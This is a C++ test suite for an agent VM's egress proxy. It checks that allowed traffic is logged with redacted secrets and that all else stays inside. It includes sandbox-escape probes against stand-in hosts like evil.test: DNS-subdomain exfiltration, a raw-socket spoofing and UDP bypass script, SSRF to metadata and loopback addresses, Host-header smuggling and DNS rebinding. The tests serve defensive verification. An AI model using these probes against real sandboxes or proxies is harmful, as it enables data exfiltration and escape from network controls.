// The one way out, with an internet of the test's own: what is allowed goes through and is
// recorded, everything else stays inside, whatever is tried or killed (S13-S18, F7, F8, M11).
#include "vm/egress_suite.h"

namespace agent_vm::test {
namespace fs = std::filesystem;
namespace {

using nlohmann::json;
using std::chrono::seconds;
using testing::Contains;
using testing::ElementsAre;
using testing::HasSubstr;
using testing::IsEmpty;
using testing::Not;

TEST_F(EgressTest, M11_WhatIsAllowedGoesThroughAndIsRecordedWithItsUrl) {
  EXPECT_EQ(code("'https://ok.test/curl?page=1&token=geheim'"), "200");
  EXPECT_EQ(code("http://ok.test/plain"), "200");
  EXPECT_EQ(code("https://a.wild.test/wild"), "200");
  EXPECT_EQ(vm().guest_says("python3 -c \"import urllib.request as r; "
                            "print(r.urlopen('https://ok.test/python').status)\""),
            "200");
  EXPECT_EQ(vm().guest_says("node -e \"fetch('https://ok.test/node').then("
                            "r => console.log(r.status), e => console.log(e))\""),
            "200");
  EXPECT_EQ(vm().guest_says("git clone -q https://ok.test/app.git /tmp/app && "
                            "git -C /tmp/app log --format=%s"),
            "Served");
  EXPECT_THAT(
      internet().requests(),
      testing::IsSupersetOf({"ok.test GET /curl?page=1&token=geheim", "ok.test GET /plain",
                             "a.wild.test GET /wild", "ok.test GET /python", "ok.test GET /node"}));
  const json record = last_record("https://ok.test/curl?page=1&token=***");
  ASSERT_TRUE(record.is_object());
  EXPECT_EQ(record["decision"], "allow");
  EXPECT_EQ(record["status"], 200);
  EXPECT_EQ(record["rule"], "ok.test");
  EXPECT_EQ(record["vm"], vm().name());
  EXPECT_THAT(vm().file("audit/network.jsonl"), Not(HasSubstr("geheim")));
  EXPECT_TRUE(last_record("https://ok.test/python").is_object());
}

TEST_F(EgressTest, M11_PackageManagersGoWhereTheHostsGoByDefault) {
  const json shown = json::parse(vm().agent({"net", "show", vm().name(), "--json"}).out);
  EXPECT_EQ(shown["mode"], "allowlist");
  EXPECT_THAT(vm().guest("npm view left-alone --fetch-retries 0 2>&1").out, HasSubstr("npm ERR!"));
  const Ran pip = vm().guest(
      "cd /tmp && PYTHONPATH=$(echo /usr/share/python-wheels/pip-*.whl) python3 -m pip download "
      "--no-deps left-alone");
  EXPECT_THAT(internet().requests(), Contains("packages.test GET /npm/left-alone"));
  EXPECT_THAT(internet().requests(), Contains("packages.test GET /pip/simple/left-alone/"))
      << pip.describe();
  EXPECT_EQ(vm().guest("grep -r geheim /etc/npmrc /etc/pip.conf").out, "");
  EXPECT_THAT(vm().guest("grep -h packages.test /etc/npmrc /etc/pip.conf").out,
              HasSubstr("registry=https://packages.test/npm/"));  // the control
  // The host's mirror is not in this internet: the policy allows it, and no name server knows it.
  const std::string mirror =
      vm().guest_says("sed -n 's/^URIs: //p' /etc/apt/sources.list.d/agent-vm.sources | head -n 1");
  EXPECT_TRUE(vm().agent({"net", "test", mirror + "/dists/x/InRelease", "--vm", vm().name()}).ok());
  vm().guest_root("apt-get update -o Acquire::Retries=0");
  bool asked = false;
  for (const auto& record : records())
    asked |= record.value("url", "").starts_with(mirror) && record.value("rule", "") == "addresses";
  EXPECT_TRUE(asked) << mirror;
  // The repository's origin: to fetch from, not to push to.
  vm().guest("git ls-remote https://code.test/team/app.git");
  EXPECT_THAT(internet().requests(), Contains("code.test GET "
                                              "/team/app.git/info/refs?service=git-upload-pack"));
  EXPECT_EQ(code("-X POST -d x https://code.test/team/app.git/git-receive-pack"), "403");
  EXPECT_EQ(code("-X PUT -d x https://packages.test/npm/left-alone"), "403");
  EXPECT_EQ(code("https://code.test/other/"), "403");
}

TEST_F(EgressTest, M11_ARequestBeforeTheProxyIsThereWaits) {
  const pid_t proxy = process("proxy");
  ASSERT_GT(proxy, 0);
  ASSERT_EQ(::kill(proxy, SIGKILL), 0);
  EXPECT_EQ(code("-m 60 https://ok.test/early"), "200");
  // The control: without a way out nothing waits.
  net({"mode", "off"});
  EXPECT_THAT(curl("-m 60 --resolve ok.test:443:10.66.0.1 https://ok.test/off"),
              HasSubstr("(7) Failed to connect"));
  net({"mode", "allowlist"});
  EXPECT_EQ(code("-m 60 https://ok.test/on"), "200");
}

TEST_F(EgressTest, S18_WhatIsRefusedIsNeitherDialledNorResolved) {
  const std::string answer = curl("https://evil.test/x");
  EXPECT_THAT(answer, HasSubstr("\n403"));
  EXPECT_THAT(answer, HasSubstr("agent-vm net allow --vm " + vm().name() + " evil.test"));
  EXPECT_EQ(code("http://evil.test/x"), "403");
  EXPECT_EQ(code("https://unknown.test/"), "403");
  // A name of its own for each query, by which data could leave.
  EXPECT_THAT(vm().guest("getent hosts c2VjcmV0.evil.test").out, HasSubstr("10.66.0.1"));
  EXPECT_THAT(internet().queries(), IsEmpty());
  EXPECT_THAT(internet().packets(), IsEmpty());
  EXPECT_EQ(last_record("https://evil.test/x")["decision"], "refuse");
  // The controls: the rule's path is allowed, resolved and dialled.
  EXPECT_EQ(code("https://evil.test/only/this"), "200");
  EXPECT_THAT(internet().queries(), Contains("evil.test"));
  EXPECT_THAT(internet().packets(), Contains(fmt::format("tcp {} 443", Internet::kEvil)));
}

TEST_F(EgressTest, S13_NoOtherProtocolLeaves) {
  const std::string probe =
      fmt::format(R"py(
import socket, struct
for port in (22, 25, 53, 853, 8443):
    for address in ('{ok}', '{resolver}'):
        s = socket.socket(); s.settimeout(0.5)
        try:
            s.connect((address, port)); print('reached', address, port)
        except ConnectionRefusedError: pass  # at once, by the gateway itself: nobody waits for it
        except OSError as error: print(error, address, port)
for port in (53, 123, 443, 4433):
    for address in ('{ok}', '{resolver}', '10.66.1.2', '10.66.1.3'):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        try: s.sendto(b'\x12\x34\x01\x00\x00\x01' + bytes(6) + b'\x06secret\x04evil\x04test\x00\x00\x01\x00\x01', (address, port))
        except OSError: pass
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
s.sendto(b'\x08\x00\xf7\xff' + bytes(4), ('{ok}', 0))
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, 47)
s.sendto(b'gre', ('{ok}', 0))
# Under an address that is not the guest's: an answer would go out by the uplink.
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
tcp = struct.pack('!HHIIBBHHH', 443, 80, 1, 0, 0x50, 2, 8192, 0, 0)
pseudo = socket.inet_aton('{ok}') + socket.inet_aton('10.66.0.1') + struct.pack('!BBH', 0, 6, 20)
data = pseudo + tcp
total = sum(struct.unpack('!%dH' % (len(data) // 2), data))
while total >> 16: total = (total & 0xffff) + (total >> 16)
tcp = tcp[:16] + struct.pack('!H', ~total & 0xffff) + tcp[18:]
header = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 40, 1, 0, 64, 6, 0, socket.inet_aton('{ok}'), socket.inet_aton('10.66.0.1'))
s.sendto(header + tcp, ('10.66.0.1', 0))
print('probed')
)py",
                  fmt::arg("ok", Internet::kOk), fmt::arg("resolver", Internet::kResolver));
  const Ran ran =
      vm().guest_root("cat > /tmp/bypass.py <<'END'\n" + probe + "\nEND\npython3 /tmp/bypass.py");
  EXPECT_EQ(ran.out, "probed\n") << ran.describe();
  EXPECT_THAT(internet().packets(), IsEmpty());
  EXPECT_THAT(internet().queries(), IsEmpty());
  // And it is on record.
  EXPECT_TRUE(eventually(seconds(20), [] {
    bool spoofed = false;
    bool udp = false;
    for (const auto& record : records()) {
      if (record.value("event", "") != "dropped") continue;
      spoofed |= record.value("spoofed", 0) > 0;
      udp |= record.value("udp", 0) > 0;
    }
    return spoofed && udp;
  }));
  // The controls: the same ports are reached from the host, and the capture has seen it.
  for (const std::uint16_t port : {22, 25, 853})
    EXPECT_TRUE(can_connect(Internet::kOk, port)) << port;
  EXPECT_THAT(internet().packets(), Contains(fmt::format("tcp {} 25", Internet::kOk)));
}

TEST_F(EgressTest, S15_NoNameLeadsToThisMachineOrAPrivateNetwork) {
  const auto everywhere = listen_on("0.0.0.0", 443);
  const auto plain = listen_on("0.0.0.0", 80);
  ASSERT_TRUE(everywhere && plain);
  for (const auto* name : {"private.test", "lo.test", "meta.test", "host.test", "multi.test"}) {
    const std::string answer = curl(fmt::format("https://{}/", name));
    EXPECT_THAT(answer, HasSubstr("\n403")) << name;
    EXPECT_THAT(answer, HasSubstr("where no VM may go")) << name;
    EXPECT_EQ(code(fmt::format("http://{}/", name)), "403") << name;
  }
  for (const auto* literal :
       {"127.0.0.1", "10.66.1.2", "198.51.100.1", "169.254.169.254", "0x7f.1", "2130706433"}) {
    EXPECT_THAT(code(fmt::format("-g --noproxy '*' --resolve x.test:80:10.66.0.1 -H 'Host: {}' "
                                 "http://x.test/",
                                 literal)),
                "403")
        << literal;
  }
  EXPECT_FALSE(everywhere->was_reached());
  EXPECT_FALSE(plain->was_reached());
  EXPECT_TRUE(can_connect(Internet::kHost, 443));  // the control
  EXPECT_TRUE(everywhere->was_reached());
}

TEST_F(EgressTest, S15_ANameThatChangesItsMindIsCheckedEveryTime) {
  EXPECT_EQ(code("https://rebind.test/first"), "200");  // the control: its first address is good
  // What was checked is kept for a while; then it is asked again, and refused.
  const auto listener = listen_on("127.0.0.1", 443);
  ASSERT_TRUE(listener);
  EXPECT_TRUE(eventually(seconds(60), [] { return code("https://rebind.test/again") == "403"; }));
  EXPECT_FALSE(listener->was_reached());
}

TEST_F(EgressTest, S16_TheNameThatIsCheckedIsTheOneThatIsDialled) {
  // Wherever the guest sends its packets, the connection goes to the name.
  EXPECT_THAT(
      curl(fmt::format("--resolve ok.test:443:{} https://ok.test/fronted", Internet::kEvil)),
      HasSubstr(fmt::format("served by {}\n", Internet::kOk)));
  EXPECT_THAT(internet().packets(), Not(Contains(fmt::format("tcp {} 443", Internet::kEvil))));
  for (const auto* arguments :
       {"-H 'Host: evil.test' https://ok.test/", "--http1.1 -H 'Host: evil.test' https://ok.test/",
        "--http1.1 --request-target https://evil.test/ https://ok.test/",
        "-H 'Host: ok.test:8443' https://ok.test/", "--http1.1 -H 'Host:' http://ok.test/"}) {
    EXPECT_THAT(code(arguments), testing::AnyOf("403", "400", "502")) << arguments;
  }
  // What curl would not send.
  const auto raw = [](const std::string& head) {
    return vm()
        .guest("printf '" + head +
               "' | timeout 10 openssl s_client -quiet -connect ok.test:443 -servername ok.test "
               "2>/dev/null | head -n 1")
        .out;
  };
  constexpr const char* kClose = "Connection: close\\r\\n\\r\\n";
  EXPECT_THAT(raw(std::string("GET /twice HTTP/1.1\\r\\nHost: ok.test\\r\\nHost: evil.test\\r\\n") +
                  kClose),
              HasSubstr("403"));
  EXPECT_THAT(raw(std::string("GET /once HTTP/1.1\\r\\nHost: ok.test\\r\\n") + kClose),
              HasSubstr("200"));                                                // the control
  EXPECT_THAT(code("-p -x http://ok.test:80 https://evil.test/"), Not("200"));  // CONNECT
  EXPECT_THAT(internet().packets(), Not(Contains(HasSubstr(Internet::kEvil))));
  EXPECT_THAT(internet().requests(), ElementsAre("ok.test GET /fronted", "ok.test GET /once"));
}

TEST_F(EgressTest, M11_TheServersCertificateMustBeGood) {
  EXPECT_EQ(code("https://bad.test/"), "502");
  EXPECT_THAT(internet().requests(), IsEmpty());
  EXPECT_THAT(internet().packets(), Contains(fmt::format("tcp {} 443", Internet::kOk)));
}

TEST_F(EgressTest, M11_AStreamIsNotHeldBack) {
  // The server sends one event and then nothing for twenty seconds.
  const Ran ran = vm().guest(
      "mkfifo /tmp/events; timeout 10 curl -sSN https://ok.test/events > /tmp/events & "
      "head -c 13 < /tmp/events; kill $!; rm /tmp/events");
  EXPECT_EQ(ran.out, "data: first\n\n") << ran.describe();
}

TEST_F(EgressTest, S14_F7_WithoutTheProxyNothingLeavesAndItComesBack) {
  const std::string before = vm().guest_says("sha256sum < /etc/agent-vm/ca.crt");
  const pid_t proxy = process("proxy");
  ASSERT_GT(proxy, 0);
  // Stopped first, so that no other takes its place: nothing else answers for it.
  ASSERT_EQ(::kill(proxy, SIGSTOP), 0);
  EXPECT_EQ(code("-m 5 https://ok.test/stopped"), "000");
  EXPECT_THAT(internet().packets(), IsEmpty());
  ASSERT_EQ(::kill(proxy, SIGKILL), 0);
  EXPECT_TRUE(eventually(seconds(60), [] { return code("https://ok.test/back") == "200"; }));
  EXPECT_NE(process("proxy"), proxy);
  EXPECT_EQ(vm().guest_says("sha256sum < /etc/agent-vm/ca.crt"), before);
}

TEST_F(EgressTest, F8_TheUplinkIsStartedAgain) {
  const pid_t uplink = process("uplink");
  ASSERT_GT(uplink, 0);
  ASSERT_EQ(::kill(uplink, SIGKILL), 0);
  EXPECT_TRUE(eventually(seconds(60), [] { return code("https://ok.test/back") == "200"; }));
  EXPECT_NE(process("uplink"), uplink);
  const json part = vm().status()["egress"]["uplink"];
  EXPECT_EQ(part["running"], true) << part;
  EXPECT_GE(part["restarts"], 1) << part;
  EXPECT_THAT(part.value("last_end", ""), HasSubstr("SIGKILL")) << part;
}

TEST_F(EgressTest, S5_TheProxysJailReachesNoFileAndOnlyTheWeb) {
  const pid_t proxy = process("proxy");
  const std::string status = fmt::format("/proc/{}/status", proxy);
  EXPECT_EQ(status_field(status, "CapEff"), "0000000000000000");
  EXPECT_EQ(status_field(status, "NoNewPrivs"), "1");
  std::vector<std::string> names;
  for (const auto& entry : fs::directory_iterator(fmt::format("/proc/{}/root", proxy)))
    names.push_back(entry.path().filename());
  std::ranges::sort(names);
  EXPECT_THAT(names, ElementsAre("bin", "certificates.pem", "dev", "etc", "lib", "lib64", "policy",
                                 "proxy", "run", "usr"));
  // Whoever takes it over can dial what he likes, and the uplink carries only the web.
  const Ran inside = run_program({"nsenter", "-U", "-t", std::to_string(vm().supervisor()->pid),
                                  "nsenter", "-n", "-t", std::to_string(proxy), "setpriv",
                                  "--reuid", "65524", "--clear-groups", "/usr/bin/python3", "-c",
                                  fmt::format(R"py(
import socket
for address, port in (('{}', 25), ('{}', 443), ('10.66.1.2', 80), ('{}', 443), ('127.0.0.1', 443)):
    s = socket.socket(); s.settimeout(2)
    try: s.connect((address, port)); print(address, port)
    except OSError: pass
)py",
                                              Internet::kOk, Internet::kHost, Internet::kOk)});
  // The last but one is the control.
  EXPECT_EQ(inside.out, fmt::format("{} 443\n", Internet::kOk)) << inside.describe();
}

}  // namespace
}  // namespace agent_vm::test
